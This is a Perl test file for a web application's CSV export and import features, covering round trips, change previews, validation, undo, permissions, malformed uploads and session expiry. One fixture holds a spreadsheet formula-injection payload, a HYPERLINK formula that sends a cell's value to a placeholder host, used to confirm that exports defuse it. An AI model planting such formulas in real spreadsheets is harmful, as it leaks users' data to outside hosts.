#!/usr/bin/perl
# Spreadsheets: lists as files, and files as changes: seen first, then saved all or not at all, and taken back.
# routes: /admin/:kind/export /admin/en/:kind/export /admin/:kind/import /admin/en/:kind/import
use FindBin;
use lib "$FindBin::Bin/lib";
use Medverk::Test;
use Medverk::Browser;
use Encode qw(encode);

my $dir = folder();
my $db = Medverk::Test::demo_db("$dir/m.db");
Medverk::Browser::accounts($db, qw(anna erik kim lisa));
# The longest lists take their time where everything is watched.
# What is refused here is too much, not too slow.
my $m = Medverk::Test->start(db => $db, env => { MEDVERK_REQUEST_SECONDS => 30 * $Medverk::Test::PATIENCE, MEDVERK_STATEMENT_MS => 60000 });
my ($anna, $erik, $kim, $lisa) = map { Medverk::Browser->signed_in($m, $_) } qw(anna erik kim lisa);

# All that a database holds: what an import that changes nothing leaves as it is.
sub state_of { scalar `sqlite3 '$db' 'SELECT * FROM record; SELECT * FROM revision; SELECT * FROM change; SELECT * FROM link; SELECT * FROM translation' | cksum` }

my %folder = (enterprise => 'foretag', project => 'projekt', report => 'rapporter', page => 'pages', organisation => 'organisationer', municipality => 'kommuner', country => 'countries', term => 'terms');
my @kinds = sort keys %folder;

# ------------------------------------------------- what is exported can be imported

sub imports_as_it_is {
	my ($kind, $file, $name) = @_;
	my $before = state_of();
	my $r = run('import', $kind, $file, '--db', $db);
	is $r->{status}, 0, $name or diag $r->{err};
	like $r->{out}, qr/^(\d+) rows: 0 new, 0 changed, \1 the same$/m, 'nothing in it is new';
	is state_of(), $before, 'nothing is written';
}

for my $kind (@kinds) {
	my $list = $anna->get("/admin/$folder{$kind}/export");
	is $list->status, 200, "$kind: a file";
	is $list->header('content-type'), 'text/csv; charset=utf-8; header=present', 'of CSV';
	like $list->header('content-disposition'), qr/^attachment; filename="$folder{$kind}-\d{4}-\d\d-\d\d\.csv"$/, 'with a name and a date';
	is $list->header('cache-control'), 'no-store', 'for this visitor only';
	my $out = run('export', $kind, '--db', $db);
	is $out->{status}, 0, 'the command does the same';
	spew("$dir/$kind.csv", $list->text);
	is $out->{out}, $list->text, 'to the letter';
	like $list->text, qr/^\x{feff}id;slug;/, 'a mark and the names of columns come first';
	imports_as_it_is($kind, "$dir/$kind.csv", "$kind: read again");
}
my $text = $anna->get('/admin/kommuner/export')->text;
like $text, qr/;"58,\d+";/, 'decimals have commas';
like $text, qr/;Linköping\|Norrköping\|Motala\r\n/, 'references have names';
like $anna->get('/admin/foretag/export')->text, qr/;\d{6}-\d{4};/, 'organisation numbers have hyphens';
is $anna->get('/admin/bananer/export')->status, 404, 'of what there is';
like run('export', 'bananer', '--db', $db)->{err}, qr/no kind of record/, 'the command says so';
isnt run('export', 'page', '--db', "$dir/none.db")->{status}, 0, 'without a database there is none';
isnt system("$Medverk::Test::BIN export page --db '$db' >/dev/full 2>/dev/null"), 0, 'a full disk is an error';

# ---------------------------------------------------------- what spreadsheets run

my @names = ('=HYPERLINK("http://x.example/"&A1;"Klicka")', '+46 13 12', '-2+3', '@SUM(A1)', "'=1", "'90-talet", '"citat"; och, mer', "''-x", 'Plus + minus - i mitten');

sub quoted {
	my ($s) = @_;
	$s = "'$s" if $s =~ /^'*[=+\@-]/;
	return '"' . $s =~ s/"/""/gr . '"';
}

spew("$dir/hostile.csv", "name,summary\n" . join '', map { quoted($_) . ',' . quoted($_) . "\n" } @names);
is run('import', 'report', "$dir/hostile.csv", '--db', $db)->{status}, 0, 'names like formulas';
chomp(my @stored = split /\n/, `sqlite3 '$db' "SELECT name FROM record WHERE kind = 'report' ORDER BY id DESC LIMIT 9"`);
is_deeply [sort @stored], [sort @names], 'are stored as they are meant';
$text = $anna->get('/admin/rapporter/export')->text;
my @cells = split /[;\r\n]/, $text =~ s/"((?:[^"]|"")*)"/$1 =~ s{[;\r\n]}{ }gr/egr;
cmp_ok scalar(grep { /^'=HYPERLINK/ } @cells), '==', 2, 'in the file they have an apostrophe';
is_deeply [grep { /^[=+\@\t-]/ && !/^-?[0-9.,]+$/ } @cells], [], 'no cell begins like a formula';
spew("$dir/report.csv", $text);
imports_as_it_is('report', "$dir/report.csv", 'read again');

# -------------------------------------------------------- the list that one sees

sub rows_of { my @rows = split /\r\n(?=[0-9a-f]{8}-)/, $_[0]->text; return @rows - 1 }
is rows_of($anna->get('/admin/foretag/export')), 54, 'a list';
is rows_of($anna->get('/admin/foretag/export?q=bj%C3%B6rken')), 1, 'by words';
is rows_of($anna->get('/admin/foretag/export?state=draft')), 0, 'by state';
is rows_of($anna->get('/admin/foretag/export?q=zzz&page=7')), 0, 'of nothing';
my ($link) = $anna->get('/admin/foretag?q=bj%C3%B6rken&state=published')->text =~ m{href="([^"]*/export\?[^"]*)" download};
ok $link, 'a list has a link';
is rows_of($anna->get($link =~ s/&amp;/&/gr)), 1, 'with what it was filtered by';
html_ok($anna->get('/admin/en/enterprises'), 200, 'in English');
like $anna->{last}->text, qr{/admin/en/enterprises/export"[^>]*>Download as CSV</a>}, 'too';
like $anna->get('/admin/en/enterprises/export')->header('content-disposition'), qr/"enterprises-/, 'with an English name';
my $own = $kim->get('/admin/foretag/export');
is $own->status, 200, 'a municipality\'s editor';
unlike $own->text, qr/Oasen i Vadstena/, 'gets none of the others\' records';
like $own->text, qr/Bastuflotten/, 'but its own';
is rows_of($own), scalar(() = $kim->get('/admin/foretag')->text =~ /<th scope="row">/g), 'as many as the list has';
is $kim->get('/admin/rapporter/export')->status, 403, 'and nothing of a kind that it does not see';
is $lisa->get('/admin/rapporter/export')->status, 200, 'a reader may read';
is $m->get('/admin/foretag/export')->status, 303, 'who is not signed in is asked to';
is $anna->get('/admin/foretag/export', method => 'HEAD')->body, '', 'HEAD has no body';

# ------------------------------------------------------- what would be changed

# Text that is pasted, or bytes of a file, and what the page says of them.
sub looks { my ($b, $kind, $text) = @_; $b->send_files("/admin/$folder{$kind}/import", { do => 'look', text => $text }) }
sub sends { my ($b, $kind, $bytes) = @_; $b->send_files("/admin/$folder{$kind}/import", { do => 'look', text => '' }, ['file', 'lista.csv', $bytes]) }
sub plain { my $s = $_[0] // ''; $s =~ s/&quot;/"/g; $s =~ s/&#39;/'/g; $s =~ s/&lt;/</g; $s =~ s/&gt;/>/g; $s =~ s/&amp;/&/g; $s }

# Presses the button below what is shown.
sub applies {
	my ($b, $kind, %other) = @_;
	my ($seen) = $b->{last}->text =~ /name="seen" value="([^"]*)"/;
	my ($text) = $b->{last}->text =~ /name="text" value="([^"]*)"/;
	return $b->send_files("/admin/$folder{$kind}/import", { do => 'apply', seen => $seen, text => plain($text), %other });
}

# "counts", then what stands at each row.
sub rows_in {
	my ($text) = @_;
	my %row;
	while ($text =~ m{<h3>(?:Rad|Row) (\d+)(.*?)</li>\s*(?=<li>\s*<h3>|</ul>\s*(?:<p|</section))}gs) {
		my ($number, $rest) = ($1, $2);
		$row{$number} = plain($rest =~ s/<[^>]*>/ /gr =~ s/\s+/ /gr);
	}
	return \%row;
}

html_ok($anna->get('/admin/foretag/import'), 200, 'the page where spreadsheets are given');
like $anna->{last}->text, qr/högst 992 kB och 5000 rader/, 'says how much it takes';
unlike $anna->{last}->text, qr/\{\{|[>"]admin\./, 'and has all its words';
html_ok($anna->get('/admin/en/enterprises/import'), 200, 'in English, too');
like $anna->get('/admin/foretag')->text, qr{href="/admin/foretag/import"}, 'lists lead there';

for my $kind (@kinds) {
	my $before = state_of();
	my $list = $anna->get("/admin/$folder{$kind}/export");
	my $rows = rows_of($list);
	html_ok(sends($anna, $kind, $list->body), 200, "$kind: what was exported");
	like $anna->{last}->text, qr{<li>Inga nya</li>\s*<li>Inga ändrade</li>\s*<li>(?:\Q$rows\E oförändrade|En oförändrad)</li>}, 'is unchanged, all of it';
	unlike $anna->{last}->text, qr/value="apply"/, 'there is nothing to save';
	is state_of(), $before, 'and nothing is written';
}

my ($bris, $bris_id) = ('Bastuflotten Bris', $anna->get('/admin/foretag?q=Bastuflotten')->text =~ m{/admin/foretag/([0-9a-f-]{36})"});
my ($oasen_id) = $anna->get('/admin/foretag?q=Oasen+i+Vadstena')->text =~ m{/admin/foretag/([0-9a-f-]{36})"};
my ($oasen_slug) = $anna->get('/admin/foretag/export?q=Oasen+i+Vadstena')->text =~ /\r\n[^;]*;([^;]*);/;
my ($number) = $anna->get('/admin/foretag/export?q=Bastuflotten')->text =~ /;(\d{6}-\d{4});/;
my $before = state_of();
my $sheet = <<"CSV";
id;slug;name;phone;employed;municipality;organisation_number
$bris_id;;$bris;010-123 45 67;7;Motala;$number
;$oasen_slug;Café Oasen i Vadstena;;;Vadstena;

;;Nya Bageriet;'+46 141 99 99;2;Motala|Vadstena;$number
;;Café Oasen i Vadstena;;;Vadstena;
CSV
html_ok(looks($anna, 'enterprise', $sheet), 200, 'a sheet with every sort of row');
my $rows = rows_in($anna->{last}->text);
like $anna->{last}->text, qr{<li>2 nya</li>\s*<li>(?:En ändrad|2 ändrade)</li>}, 'says how many are of each';
like $rows->{2}, qr/Bastuflotten Bris.*Telefon.*Borttaget: .*Nytt: 010-123 45 67/, 'what is changed stands field by field';
unlike $rows->{2}, qr/Organisationsnummer/, 'and nothing else';
like $rows->{5}, qr/: Nya Bageriet Finns det redan\? Bastuflotten Bris har samma organisationsnummer\..*Telefon Nytt: \+46 141 99 99/, 'a new one may be there already by its number';
like $rows->{6}, qr/Finns det redan\? Café Oasen i Vadstena heter likadant/, 'or by its name';
is state_of(), $before, 'nothing is saved';
for my $as (['commas', $sheet =~ s/;/,/gr], ['tabs', $sheet =~ s/;/\t/gr], ['CR LF', $sheet =~ s/\n/\r\n/gr], ['a mark', "\x{feff}$sheet"]) {
	html_ok(sends($anna, 'enterprise', encode('UTF-8', $as->[1])), 200, "with $as->[0]");
	is_deeply rows_in($anna->{last}->text), $rows, 'is the same';
	unlike $anna->{last}->text, qr/Windows-1252/, 'and UTF-8';
}
html_ok(sends($anna, 'enterprise', encode('cp1252', $sheet)), 200, 'as Windows-1252');
is_deeply rows_in($anna->{last}->text), $rows, 'is the same';
like $anna->{last}->text, qr/lästes som Windows-1252/, 'and said to be so';
html_ok($anna->send_files('/admin/en/enterprises/import', { do => 'look', text => $sheet }), 200, 'in English');
like $anna->{last}->text, qr/2 new.*This will happen|This will happen.*2 new/s, 'too';

# ---------------------------------------------------------------- what is wrong

my $n = 0;

sub wrong {
	my ($name, $kind, $text, %want) = @_;
	my $before = state_of();
	html_ok(looks($anna, $kind, $text), 422, $name);
	my $rows = rows_in($anna->{last}->text);
	like $rows->{ $_ =~ s/ //gr }, $want{$_}, "row $_ says so" for sort keys %want;
	unlike $anna->{last}->text, qr/value="apply"/, 'it cannot be saved';
	is plain($anna->{last}->text =~ m{<textarea[^>]*>(.*?)</textarea>}s ? $1 : undef), $text =~ s/\r\n?/\n/gr, 'what was written is kept';
	is state_of(), $before, 'nothing is written';
}

wrong('cells', 'enterprise', "name,municipality,email,employed,figures_date,organisation_number,reserved_procurement,latitude\nA,Motla,x,många,2026-02-30,5560000000,kanske,58\n,Motala,,,,,,\n\"B\nC\",Motala,,,,,,\n",
	(map { ("2" . " " x ++$n => $_) } qr/Rad 2, kolumnen municipality: ”Motla” finns inte/, qr/kolumnen email: Skriv en e-postadress/, qr/kolumnen employed: Skriv ett tal/, qr/kolumnen figures_date: Skriv ett datum/,
		qr/organisation_number: Numret stämmer inte/, qr/reserved_procurement: Skriv ja eller nej/, qr/longitude: Fyll i båda/),
	3 => qr/Rad 3, kolumnen name: Cellen är tom/, 4 => qr/kolumnen name: Skriv allt på en rad/);
html_ok($anna->send_files('/admin/en/enterprises/import', { do => 'look', text => "name,email\nA,x\n" }), 422, 'in English');
like rows_in($anna->{last}->text)->{2}, qr/Row 2, column email: Write an e-mail address/i, 'too' or diag rows_in($anna->{last}->text)->{2};
wrong('an unknown column', 'enterprise', "name;colour;phone\nA;red;\n", 1 => qr/Kolumnen ”colour” finns inte/);
wrong('a column twice', 'enterprise', "name;phone;name\nA;;B\n", 1 => qr/Kolumnen ”name” finns två gånger/);
wrong('no columns', 'enterprise', "A;010-11 22 33\n", 1 => qr/Kolumnen ”A” finns inte/);
wrong('only columns', 'enterprise', "name;phone\n", 1 => qr/inga rader under/);
wrong('an open quote', 'enterprise', "name;phone\nA;\n\"B;\nC;\n", 3 => qr/citattecken börjar här/);
wrong('too few cells', 'enterprise', "name;phone;email\nA;\n", 2 => qr/inte lika många celler/);
wrong('too many cells', 'enterprise', "name;phone\nA;;;x\n", 2 => qr/inte lika många celler/);
wrong('200 columns and one', 'enterprise', join(';', 'name', ('phone') x 200) . "\nA\n", 1 => qr/Högst 200 kolumner/);
wrong('an id that is none', 'enterprise', "id;name\nnope;A\n", 2 => qr/kolumnen id: ”nope” är inget id/);
wrong('an id of another kind', 'project', "id;name\n$bris_id;A\n", 2 => qr/är inget id/);
wrong('a record twice', 'enterprise', "id;name\n$bris_id;A\n$bris_id;B\n", 3 => qr/Samma sak står på rad 2/);
wrong('a slug twice', 'enterprise', "slug;name\nny;A\nny;B\n", 3 => qr/kolumnen slug: Samma sak står på rad 2/);
wrong('another\'s slug', 'enterprise', "id;slug;name\n$bris_id;$oasen_slug;A\n", 2 => qr/kolumnen slug: Det används redan/);
wrong('a code twice', 'country', "code;name\nZZ;A\nZZ;B\n", 3 => qr/kolumnen code: Samma sak står på rad 2/);
wrong('a new one without a name', 'enterprise', "phone\n010-11 22 33\n", 2 => qr/kolumnen name: Cellen är tom/);
wrong('too many rows', 'page', "name\n" . join('', map { "Sida $_\n" } 1 .. 5001), 5002 => qr/Högst 5000 rader/);
html_ok(looks($anna, 'enterprise', "name;phone;;\nTomma kolumner;;;\n"), 200, 'columns without names or cells are nothing');

for my $bad (['nothing', '', qr/Välj en fil eller klistra in/], ['blanks', " \n\n", qr/Välj en fil/]) {
	html_ok(looks($anna, 'enterprise', $bad->[1]), 422, $bad->[0]);
	like $anna->{last}->text, $bad->[2], 'is said to be so';
}
for my $bad (['a workbook', "PK\x03\x04\0\0name"], ['NULs', "name\nA\0B\n"], ['UTF-16', "\xff\xfen\0a\0m\0e\0"], ['a sign that Windows has none for', "name\nA\x81\xff\n"]) {
	html_ok(sends($anna, 'enterprise', $bad->[1]), 422, $bad->[0]);
	like $anna->{last}->text, qr/ingen text\. Är det en arbetsbok/, 'is no text';
}
html_ok(sends($anna, 'page', "name\n" . 'a' x 1_020_000), 422, 'more than a form can carry');
like $anna->{last}->text, qr/för lång: högst 992 kB/, 'is said to be so';
html_ok(sends($anna, 'page', "name\n" . 'a' x 1_100_000), 422, 'more than any other form may have');
like $anna->{last}->text, qr/för lång: högst 992 kB/, 'is, too';

# --------------------------------------------------------- all of it, or nothing

html_ok(looks($anna, 'enterprise', $sheet), 200, 'what was seen');
is applies($anna, 'enterprise')->status, 303, 'is saved';
html_ok($anna->get($anna->{last}->header('location')), 200, 'with a page');
like $anna->{last}->text, qr/Allt är sparat.*2 nya · (?:En ändrad|2 ändrade)/s, 'that says so';
my ($import) = $anna->{last}->text =~ /name="batch" value="(\d+)"/;
like $m->get("/foretag/nya-bageriet")->text, qr/Nya Bageriet/, 'a new one is there';
like $m->get('/foretag/bastuflotten-bris')->text, qr/010-123 45 67/, 'a change is';
is $m->get('/api/v1/search?q=nya+bageriet')->json->{items}[0]{name}, 'Nya Bageriet', 'and found';
like $anna->get("/admin/foretag/$bris_id/historik")->text, qr/Från ett kalkylblad/, 'the history says where it came from';
is run('check', '--db', $db)->{status}, 0, 'and everything agrees';

# Back to what it was.
is $anna->post('/admin/foretag/import', { do => 'undo', batch => $import })->status, 303, 'it is taken back';
html_ok($anna->get($anna->{last}->header('location')), 200, 'with a page');
like $anna->{last}->text, qr/Importen är ångrad/, 'that says so';
unlike $anna->{last}->text, qr/name="batch" value="$import"/, 'it cannot be twice';
is $anna->post('/admin/foretag/import', { do => 'undo', batch => $import })->status, 404, 'it is not';
is $m->get('/foretag/nya-bageriet')->status, 410, 'what was new is gone';
unlike $m->get('/foretag/bastuflotten-bris')->text, qr/010-123 45 67/, 'what was changed is as before';
like $anna->get("/admin/foretag/$bris_id/historik")->text, qr/ångrades/, 'the history says so';
spew("$dir/after.csv", $anna->get('/admin/foretag/export?state=published')->text);
spew("$dir/enterprise.csv", slurp("$dir/enterprise.csv"));
is slurp("$dir/after.csv"), slurp("$dir/enterprise.csv"), 'all is as it was, to the letter';
is run('check', '--db', $db)->{status}, 0, 'and everything agrees';

# Links to others of the kind come back, too.
my ($motala_id) = $anna->get('/admin/kommuner?q=Motala')->text =~ m{/admin/kommuner/([0-9a-f-]{36})"};
my $places = $anna->get('/admin/kommuner/export')->text;
html_ok(looks($anna, 'municipality', "code;seat;neighbours\n0583;Motalaby;Vadstena\n"), 200, 'a municipality by its code');
like rows_in($anna->{last}->text)->{2}, qr/Motalaby.*Vadstena/, 'and its neighbours';
is applies($anna, 'municipality')->status, 303, 'saved';
isnt $anna->get('/admin/kommuner/export')->text, $places, 'it is changed';
($import) = $anna->get('/admin/kommuner/import')->text =~ /name="batch" value="(\d+)"/;
is $anna->post('/admin/kommuner/import', { do => 'undo', batch => $import })->status, 303, 'and taken back';
is $anna->get('/admin/kommuner/export')->text, $places, 'it is as before';

# Somebody saves in between.
html_ok(looks($anna, 'enterprise', "id;name;phone\n$bris_id;$bris;010-123 45 67\n"), 200, 'a change is seen');
my $seen = $anna->{last};
$erik->get('/admin');
looks($erik, 'enterprise', "id;name;employed\n$bris_id;$bris;9\n");
is applies($erik, 'enterprise')->status, 303, 'another changes the same record';
$anna->{last} = $seen;
html_ok(applies($anna, 'enterprise'), 409, 'it is not saved');
like $anna->{last}->text, qr/Något har ändrats sedan du tittade/, 'but said';
like rows_in($anna->{last}->text)->{2}, qr/010-123 45 67/, 'and shown as it is now';
is applies($anna, 'enterprise')->status, 303, 'once more saves it';
my ($hers) = $anna->get('/admin/foretag/import')->text =~ /name="batch" value="(\d+)"/;
my ($his) = $anna->{last}->text =~ /name="batch" value="$hers".*?name="batch" value="(\d+)"/s;
is $erik->post('/admin/foretag/import', { do => 'undo', batch => $his })->status, 303, 'what was changed since';
html_ok($erik->get($erik->{last}->header('location')), 200, 'when it is taken back');
like $erik->{last}->text, qr{De här har någon ändrat sedan dess.*<a href="/admin/foretag/$bris_id">Bastuflotten Bris</a>}s, 'is left, and named';
like $m->get('/foretag/bastuflotten-bris')->text, qr/010-123 45 67/, 'as it is';
for my $bad ([seen => 'x'], [seen => ''], [text => "id;name\n$bris_id;Annat\n"]) {
	html_ok(looks($anna, 'enterprise', "id;name;phone\n$bris_id;$bris;010-123 45 99\n"), 200, 'what is seen');
	html_ok(applies($anna, 'enterprise', @$bad), 409, "with another $bad->[0] is not saved");
}
html_ok(looks($anna, 'enterprise', "name\nEn\nTvå\n"), 200, 'all or nothing');
my $count = state_of();
html_ok(applies($anna, 'enterprise', text => "name;email\nEn;\nTvå;x\n"), 422, 'with one wrong row');
is state_of(), $count, 'is nothing';

# A draft beside what is public outlives an import; a draft stays one.
is $anna->send_files('/admin/foretag/ny', { do => 'keep', name => 'Utkastet', anyway => 1 })->status, 303, 'a draft';
my ($draft) = $anna->{last}->header('location') =~ m{/([0-9a-f-]{36})};
looks($anna, 'enterprise', "id;name;phone\n$draft;Utkastet;010-11 22 33\n");
is applies($anna, 'enterprise')->status, 303, 'is changed by a sheet';
is $m->get('/api/v1/search?q=utkastet')->json->{page}{total}, 0, 'and still no more than a draft';
like $anna->get("/admin/foretag/$draft")->text, qr/010-11 22 33/, 'but changed';

# ------------------------------------------------------------ who may do what

is $lisa->get('/admin/foretag/import')->status, 403, 'a reader gives none';
$lisa->get('/admin');
is looks($lisa, 'enterprise', $sheet)->status, 403, 'nor by other ways';
is $lisa->post('/admin/foretag/import', { do => 'undo', batch => $hers })->status, 403, 'nor takes one back';
unlike $lisa->get('/admin/foretag')->text, qr/import/, 'nothing leads there';
is $kim->get('/admin/rapporter/import')->status, 403, 'a municipality\'s editor gives none of other kinds';
is $kim->post('/admin/foretag/import', { do => 'undo', batch => $hers })->status, 404, 'and takes none of others back';
unlike $kim->get('/admin/foretag/import')->text, qr/name="import"/, 'or sees them';
html_ok(looks($kim, 'enterprise', "id;name;municipality\n$bris_id;$bris;Vadstena\n$oasen_id;Mitt nu;Motala\n;Ny hos grannen;Vadstena\n;Ny hos mig;Motala|Vadstena\n"), 422, 'and nothing of others');
$rows = rows_in($kim->{last}->text);
like $rows->{2}, qr/Skriv minst en|Välj minst en av dina egna kommuner/, 'gives none away';
like $rows->{3}, qr/Du får inte ändra den här posten/, 'takes none';
unlike $rows->{3}, qr/Oasen/, 'sees none';
like $rows->{4}, qr/av dina egna kommuner/, 'makes none';
like $rows->{5}, qr/^: Ny hos mig Namn Nytt/, 'its own is right';
html_ok(sends($kim, 'enterprise', $kim->get('/admin/foretag/export')->body), 200, 'its own list');
like $kim->{last}->text, qr/<li>Inga ändrade<\/li>/, 'is unchanged';
is $m->request(uri => '/admin/foretag/import', method => 'POST', body => 'do=undo')->status, 401, 'who is not signed in is asked to';
is $anna->post('/admin/foretag/import', { do => 'undo', batch => $hers }, secret => 'x')->status, 403, 'no form of others is taken';
is $anna->send_files('/admin/foretag/import', { do => 'look', text => $sheet, secret => undef })->status, 403, 'whatever its shape';

# ------------------------------------------------------------------ bad input

sub body_as { my ($body, $type) = @_; $anna->ask(uri => '/admin/foretag/import', method => 'POST', body => $body, variables => { CONTENT_TYPE => $type // 'multipart/form-data; boundary=X' })->status }
my $secret = $anna->{secret};
my $part = sub { qq(--X\r\nContent-Disposition: form-data; name="$_[0]"\r\n\r\n$_[1]\r\n) };
is body_as($part->('secret', $secret) . $part->('do', 'look') . '--X--'), 422, 'a form without a sheet';
is body_as($part->('secret', $secret) . $part->('do', 'explode') . '--X--'), 400, 'another button';
is body_as(qq(--X\r\nContent-Disposition: form-data; name=a\r\n\r\n\r\n) x 10_000 . '--X--'), 400, '10 000 parts';
is body_as(qq(--X\r\nContent-Disposition: form-data; name="file"; filename="a"\r\n\r\n) . 'a' x 900_000), 400, 'a part without an end';
is body_as($part->('secret', $secret) . $part->('do', 'look')), 400, 'no end';
is body_as("--X\r\n" x 100_000), 400, 'nothing but boundaries';
is body_as("--X\r\n\r\n" x 100_000 . '--X--'), 400, 'nothing but empty parts';
is body_as($part->('secret', "\xff") . '--X--'), 400, 'a field that is no text';
is body_as('secret=x', 'multipart/form-data'), 400, 'no boundary';
is body_as($part->('do', 'look') . '--X--'), 403, 'no secret';
is $anna->ask(uri => '/admin/foretag/import', method => 'POST', body => $part->('secret', $secret) . '--X--', variables => { CONTENT_TYPE => 'multipart/form-data; boundary=X', CONTENT_LENGTH => $_ })->status, 400, "a length of $_ is wrong" for '10', '5000';
is $anna->post('/admin/foretag/import', { do => 'undo', batch => $_ })->status, $_ eq 'x' ? 400 : 404, "no import $_" for 'x', '0', '-1', '9999999';
is $anna->get("/admin/foretag/import?done=$_&undone=$_")->status, 200, "nothing is done by $_" for 'x', '99999999999999999999';
is $anna->get('/admin/bananer/import')->status, 404, 'there is no such kind';
ok $m->is_well(2), 'all is well';

# ------------------------------------------------- signed out while one was at it

# What is sent after the session has ended is there again after signing in, and can be looked at.
sub ended_session {
	my ($sends) = @_;
	my $b = Medverk::Browser->new($m);
	html_ok($sends->($b), 401, 'sent after signing out');
	$b->{uri} = '/admin/logga-in';
	return $b;
}
sub signs_in {
	my ($b) = @_;
	return $b->submit(email => 'anna@example.se', password => $Medverk::Browser::PASSWORD);
}
sub typed {
	my ($b) = @_;
	my ($area) = $b->{last}->text =~ m{<textarea id="text"[^>]*>(.*?)</textarea>}s;
	return Medverk::Browser::plain($area) =~ s/\r//gr;
}
my $some = "name;summary\nUtloggad sida;Åäö & <b> \"x\", 100 % + mer\n";
for (
	['pasted', sub { $_[0]->send_files('/admin/pages/import', { do => 'look', text => $some }) }],
	['to be saved', sub { $_[0]->send_files('/admin/pages/import', { do => 'apply', seen => 'x', text => $some }) }],
	['a file', sub { $_[0]->send_files('/admin/pages/import', { do => 'look', text => 'ej detta' }, ['file', 'a.csv', encode('UTF-8', $some)]) }],
	['a file from Excel', sub { $_[0]->send_files('/admin/pages/import', { do => 'look', text => '' }, ['file', 'a.csv', encode('cp1252', $some)]) }],
) {
	my ($name, $sends) = @$_;
	my $b = ended_session($sends);
	like $b->{last}->text, qr/finns det du skrev kvar/, "$name: is kept, one is told";
	html_ok($b->submit(email => 'anna@example.se', password => 'fel fel fel'), 422, 'also after a wrong password') if $name eq 'pasted';
	html_ok(signs_in($b), 200, 'and after signing in');
	like $b->{last}->text, qr/Raderna finns kvar/, 'it is there';
	is typed($b), $some, 'to the letter';
	is $b->get('/admin/pages?q=utloggad')->text =~ /Utloggad sida/, '', 'nothing was saved';
	html_ok($b->send_files('/admin/pages/import', { do => 'look', text => $some }), 200, 'and can be looked at');
}
# In another window one has signed in anew: the form's secret is that of the old session.
$anna->get('/admin/pages/import');
html_ok($anna->send_files('/admin/pages/import', { do => 'look', secret => '0' x 64 }, ['file', 'a.csv', encode('UTF-8', $some)]), 403, 'a form of the session before');
is typed($anna), $some, 'is shown again, with what was in the file';
# What does not come along is said not to, where one signs in, and nothing pretends to be there.
for (
	['too much', ['file', 'a.csv', encode('UTF-8', 'å' x 400_000)]],
	['no text', ['file', 'a.xlsx', "PK\x03\x04\x00\x01\x81\x8d"]],
) {
	my ($name, $file) = @$_;
	my $b = ended_session(sub { $_[0]->send_files('/admin/pages/import', { do => 'look', text => '' }, $file) });
	like $b->{last}->text, qr/kan inte följa med/, "$name: does not come along, one is told";
	unlike $b->{last}->text, qr/finns det du skrev kvar/, 'and not that it does';
	html_ok($b->submit(email => 'anna@example.se', password => 'fel fel fel'), 422, 'a wrong password');
	like $b->{last}->text, qr/kan inte följa med/, 'and told again';
	is signs_in($b)->header('location'), '/admin/pages/import', 'signing in leads to where it is to be chosen again';
}
# Nearly as much as is taken comes along, also where every letter of it is written as six signs.
my $much = "name;summary\n" . "Mycket;" . 'å' x 160_000 . "\n";
my $large = ended_session(sub { $_[0]->send_files('/admin/pages/import', { do => 'look', text => $much }) });
html_ok($large->send_files('/admin/logga-in', { email => 'anna@example.se', password => $Medverk::Browser::PASSWORD, to => $large->field('to'), unsaved => $large->field('unsaved') }), 200, 'a large one');
is typed($large), $much, 'is there to the letter';
# The button that takes an import back has no text.
my $undo = ended_session(sub { $_[0]->post('/admin/pages/import', { do => 'undo', batch => 1 }) });
html_ok(signs_in($undo), 200, 'taking back is asked for again');
is typed($undo), '', 'without a text';
unlike $undo->{last}->text, qr/class="errors"/, 'and nothing is wrong';

# As much as is taken, in as many rows: what a worker holds is bounded.
my $long = "name;summary\n" . join '', map { "Sida $_;" . 'ord ' x 45 . "\n" } 1 .. 4999;
html_ok(sends($anna, 'page', $long), 200, 'a long list');
like $anna->{last}->text, qr/och 4.699 rader till/, 'of which the first are shown';
is applies($anna, 'page')->status, 303, 'is saved';
if ($Medverk::Test::BIN !~ m{/san/}) {
	my @peaks = map { slurp("/proc/$_/status") =~ /VmHWM:\s+(\d+) kB/ } $m->workers;
	is_deeply [grep { $_ > 64 * 1024 } @peaks], [], 'no worker ever held 64 MiB';
	note "@peaks kB";
}
($import) = $anna->get('/admin/pages/import')->text =~ /name="batch" value="(\d+)"/;
is $anna->post('/admin/pages/import', { do => 'undo', batch => $import })->status, 303, 'and taken back';
is rows_of($anna->get('/admin/pages/export?state=published')), 7, 'all of it';
is run('check', '--db', $db)->{status}, 0, 'and everything agrees';

# More than a worker should hold.
spew("$dir/long.csv", "name,description\n" . join '', map { "Lång $_," . 'ord och ' x 2400 . "\n" } 1 .. 460);
is run('import', 'page', "$dir/long.csv", '--db', $db)->{status}, 0, 'many long pages';
html_ok($anna->get('/admin/pages/export'), 413, 'too long a list');
like $anna->{last}->text, qr/för lång för en fil/, 'is said to be so';
is $anna->get('/admin/pages/export?q=L%C3%A5ng+45')->status, 200, 'a part of it is given';
cmp_ok length run('export', 'page', '--db', $db)->{out}, '>', 8_000_000, 'and the command gives all';

done_testing;
